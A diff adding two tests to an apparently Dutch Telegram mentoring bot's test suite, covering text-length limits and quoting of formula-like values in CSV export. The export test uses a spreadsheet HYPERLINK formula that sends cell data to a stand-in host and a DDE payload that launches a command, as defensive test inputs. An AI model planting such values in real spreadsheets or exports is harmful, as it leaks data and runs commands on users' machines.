@@ -7,6 +7,8 @@ open, odd characters, a code in a group)."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 
 import pytest
@@ -427,3 +429,46 @@ async def test_a_typed_reply_to_a_closed_rounds_question(h: Harness) -> None:
     reply = await h.say(ilse, "Situatie: te laat, maar toch.", reply_to=starr)
     assert changes(before, await db_state(h)) == {}  # holds today
     assert "Deze ronde is gesloten" in reply.text, reply.text
+
+
+async def test_mentor_texts_over_their_limit_are_not_stored(h: Harness) -> None:
+    cohort_id = await h.cohort()
+    docent, ilse = h.api.add_user("Docent"), h.api.add_user("Ilse")
+    await h.say(docent, f"/start {await h.code(cohort_id, 'mentor')}")
+    await h.join(ilse, await h.code(cohort_id))
+    assert "doorgestuurd" in (await h.say(ilse, "/vraag Mag ik ruilen?")).text
+    async with h.db.transaction() as s:
+        question_id = await s.scalar(select(StudentQuestion.id))
+    before = await db_state(h)
+    long = "Oefen een kringgesprek. " * 146  # 3504 characters, under Telegram's 4096
+    reply = await h.say(docent, f"/verwachting {long.strip()}")
+    assert reply.text == "Die tekst is te lang (3503 tekens, hooguit 3500)."
+    reply = await h.say(docent, f"/antwoord {question_id} {long.strip()}")
+    assert reply.text == "Dat antwoord is te lang (3503 tekens, hooguit 3500)."
+    assert changes(before, await db_state(h)) == {}
+
+
+async def test_names_and_answers_that_look_like_formulas_are_quoted_in_the_export(
+    h: Harness,
+) -> None:
+    cohort_id = await h.cohort()
+    docent = h.api.add_user("Docent")
+    await h.say(docent, f"/start {await h.code(cohort_id, 'mentor')}")
+    user = h.api.add_user('=HYPERLINK("http://x.example/?"&A1)', None)
+    await h.join(user, await h.code(cohort_id))
+    await h.state.live().scheduler.push(cohort_id, "reflection", week=1)
+    message = await h.api.wait_for_message(
+        user, lambda m: "reflectie van week 1" in (m.text or ""), timeout=20
+    )
+    while "1" in [b["text"] for b in message.buttons()]:
+        mark = h.api.mark(user)
+        await h.api.press(user, message, "3")
+        message = await h.api.wait_for_message(user, is_question, since=mark)
+    assert "Opgeslagen" in (await h.say(user, "@SUM(1+1)*cmd|' /C calc'!A0")).text
+    export = await h.say(docent, "/export")
+    assert export.document is not None
+    rows = list(csv.reader(io.StringIO(export.document.data.decode("utf-8"))))
+    students = {row[1] for row in rows[1:]}
+    texts = {row[6] for row in rows[1:]} - {""}
+    assert students == {"'" + '=HYPERLINK("http://x.example/?"&A1)'}
+    assert texts == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
